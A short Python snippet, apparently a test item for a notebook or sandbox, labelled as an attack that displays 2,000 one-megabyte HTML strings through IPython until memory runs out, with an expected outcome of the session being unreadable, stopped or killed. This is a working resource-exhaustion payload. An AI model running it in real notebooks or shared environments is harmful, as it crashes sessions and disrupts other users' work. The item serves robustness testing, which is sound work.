# attack: pictures and texts of a megabyte each, until somebody's memory is full
# earns: any
# outcome: unreadable or stopped or killed
from IPython.display import display_html

for number in range(2000):
    display_html("<p>" + "x" * 1_000_000, raw=True)
